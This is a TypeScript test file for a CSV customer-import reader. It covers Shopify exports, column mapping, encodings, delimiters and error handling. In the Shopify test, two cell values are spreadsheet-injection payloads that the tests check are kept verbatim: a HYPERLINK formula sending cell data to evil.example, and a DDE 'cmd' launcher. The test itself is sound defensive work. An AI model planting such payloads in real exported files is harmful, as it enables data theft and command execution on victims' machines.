import assert from 'node:assert/strict';
import { readFile as readBytes } from 'node:fs/promises';
import { describe, it } from 'node:test';
import { mapColumns } from '../../src/import/mapping.ts';
import { ReadError } from '../../src/import/read-error.ts';
import { readFile, type FileReading } from '../../src/import/read-file.ts';
import type { ImportRow } from '../../src/model/import.ts';

const fixtures = new URL('../fixtures/import/', import.meta.url);
const read = (...parts: BlobPart[]): Promise<FileReading> =>
  readFile(new Blob(parts), { fileName: 'file.csv' });
const rowsOf = async (...parts: BlobPart[]): Promise<ImportRow[]> => (await read(...parts)).rows;
const failsWith = (code: string, detail?: string) => (error: unknown) => {
  assert.ok(error instanceof ReadError, String(error));
  assert.equal(error.code, code);
  if (detail !== undefined) assert.equal(error.detail, detail);
  return true;
};

describe('a Shopify export', async () => {
  const bytes = await readBytes(new URL('shopify-customers-export.csv', fixtures));
  const reading = await read(bytes);

  it('keeps note, ids and totals as metadata, and nothing of a formula is changed', () => {
    assert.deepEqual(reading.rows.find(({ row }) => row === 13)?.metadata, {
      'Customer ID': '6900000087109',
      'Accepts SMS Marketing': 'no',
      'Total Spent': '147.07',
      'Total Orders': '4',
      Note: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      'Tax Exempt': 'no',
    });
    assert.equal(reading.rows.find(({ row }) => row === 21)?.company, `+cmd|' /C calc'!A0`);
  });

  it('reads the same in pieces that cut through letters, quotes and line ends', async () => {
    const filler = `'1,A,B,pad@example.com,yes,,,,,,,,,,,,,"${'ü"",\r\n'.repeat(250_000)}",no,\n`;
    const [header, ...records] = bytes.toString().split('\n');
    const long = await read([`${header}\n${filler}`, records.join('\n')].join(''));
    assert.equal(long.records, 48);
    assert.deepEqual(
      long.rows.slice(1).map((row) => ({ ...row, row: row.row - 1 })),
      reading.rows,
    );
  });
});

describe('columns', () => {
  const targets = (header: string): unknown[] =>
    mapColumns(header.split(',')).columns.map(({ target }) =>
      target.kind === 'field' ? target.field : target.kind,
    );

  it('go by our own names and what surely means the same, whatever case and punctuation', () => {
    assert.deepEqual(targets('E-Mail,FIRST NAME,last_name,PLZ,Straße,Zip Code,accepts marketing,Status'), [
      'email',
      'first_name',
      'last_name',
      'postal_code',
      'address_line_1',
      'metadata',
      'accepts_marketing',
      'status',
    ]);
  });

  // What matchers by likeness get wrong on files of other platforms.
  for (const header of [
    'Last Active',
    'First Name Phonetic',
    'Region',
    'County',
    'Fax',
    'Newsletter sent at',
    'Email 2',
    'Address First Name - 1',
    'Marketing contact status',
    'Default Address Province Code',
    'Accepts SMS Marketing',
    'Hashtags',
  ]) {
    it(`never take "${header}" for a field`, () => {
      assert.deepEqual(targets(`Email,${header}`), ['email', 'metadata']);
    });
  }

  it('that hold password hashes or tokens are neither kept nor shown', async () => {
    const reading = await read(
      'email,user_pass,password_hash,rp_token,note\na@example.com,$P$B1,abc,def,hello\n',
    );
    assert.deepEqual(reading.rows[0]?.metadata, { note: 'hello' });
    assert.doesNotMatch(JSON.stringify(reading), /\$P\$B1|abc|def/);
  });

  it('of the same name are two columns', async () => {
    const [row] = await rowsOf('E-mail,Note,E-mail,Note\na@example.com,one,b@example.com,two\n');
    assert.deepEqual(
      [row?.email, row?.metadata],
      ['a@example.com', { Note: 'one', 'E-mail': 'b@example.com' }],
    );
  });
});

describe('a file', () => {
  it('may be UTF-8 with a mark, UTF-16 with or without one, or Windows-1252', async () => {
    const text = 'email,first name\nzoe@example.com,Zoë\n';
    const utf16 = Buffer.from(`\ufeff${text}`, 'utf16le');
    const files: [string, BlobPart][] = [
      ['utf-8', `\ufeff${text}`],
      ['utf-16le', utf16],
      ['utf-16le', utf16.subarray(2)],
      ['utf-16be', Buffer.from(utf16).swap16()],
      ['windows-1252', Buffer.from(text, 'latin1')],
    ];
    for (const [encoding, bytes] of files) {
      const reading = await read(bytes);
      assert.equal(reading.encoding, encoding);
      assert.deepEqual([reading.columns[0]?.header, reading.rows[0]?.first_name], ['email', 'Zoë']);
    }
    const euro = await rowsOf(
      Buffer.concat([Buffer.from('email,city\na@example.com,'), Buffer.from([0x80, 0x92, 10])]),
    );
    assert.equal(euro[0]?.city, '€’');
  });

  it('may be parted by semicolons, tabs or bars, and say so in its first line', async () => {
    for (const delimiter of [';', '\t', '|', ',']) {
      const lines = ['email', 'first name', 'note'].join(delimiter);
      const reading = await read(`${lines}\n${['a@example.com', 'Ann', '"x;y,z|"'].join(delimiter)}\n`);
      assert.deepEqual([reading.delimiter, reading.rows[0]?.metadata], [delimiter, { note: 'x;y,z|' }]);
    }
    const named = await read('sep=;\r\nemail;first name, with a comma\r\na@example.com;x\r\n');
    assert.deepEqual([named.delimiter, named.records, named.rows[0]?.row], [';', 1, 2]);
  });

  it('may end its lines in any way, mixed too', async () => {
    for (const end of ['\n', '\r\n', '\r']) {
      const rows = await rowsOf(['email,city', 'a@example.com,X', 'b@example.com,"Y"', ''].join(end));
      assert.deepEqual(
        rows.map(({ city }) => city),
        ['X', 'Y'],
      );
    }
    const mixed = await rowsOf('email,city\r\na@example.com,X\nb@example.com,Y\r\n');
    assert.deepEqual(
      mixed.map(({ city }) => city),
      ['X', 'Y'],
    );
  });

  it('counts records, not lines, and no blank ones; a title above the header is none', async () => {
    const reading = await read(
      'Customers of 2026\n\nemail,note\n\na@example.com,"one\ntwo"\n , \n,,\nb@example.com,three,four\n',
    );
    assert.deepEqual(
      reading.rows.map(({ row, email }) => [row, email]),
      [
        [2, 'a@example.com'],
        [3, 'b@example.com'],
      ],
    );
    assert.equal(reading.records, 2);
    assert.deepEqual(
      reading.warnings.filter(({ code }) => code === 'cells_surplus').map(({ row }) => row),
      [3],
    );
  });

  it('that is no table of customers is refused with its reason', async () => {
    await assert.rejects(read(''), failsWith('empty'));
    await assert.rejects(read('\n \n,,\n'), failsWith('empty'));
    await assert.rejects(read('email,phone\n'), failsWith('header_only'));
    await assert.rejects(read('%PDF-1.7\n…'), failsWith('pdf'));
    await assert.rejects(read('<!doctype html><table>'), failsWith('html'));
    await assert.rejects(read(new Uint8Array(600)), failsWith('binary'));
    await assert.rejects(read('Name,Age\nAnn,7\n'), failsWith('no_email_column', 'Name, Age'));
    await assert.rejects(read('E-Mail,Age\nAnn,7\nBob,8\n'), failsWith('no_addresses', 'E-Mail'));
  });

  it('with thousands of columns or a cell of millions of characters is read', async () => {
    const headers = Array.from({ length: 3000 }, (_, index) => `Column ${index}`);
    const wide = await read(
      `email,${headers.join(',')}\na@example.com,${headers.map(() => 'x').join(',')}\n`,
    );
    assert.equal(Object.keys(wide.rows[0]?.metadata ?? {}).length, 3000);
    const long = await read(`email,note\na@example.com,"${'y'.repeat(5_000_000)}"\nb@example.com,z\n`);
    assert.deepEqual(
      long.rows.map(({ metadata }) => metadata?.note?.length),
      [5_000_000, 1],
    );
  });

  it('can be given up while it is read', async () => {
    const aborted = AbortSignal.abort(new Error('enough'));
    await assert.rejects(readFile(new Blob(['email\na@example.com\n']), { signal: aborted }), /enough/);
  });
});
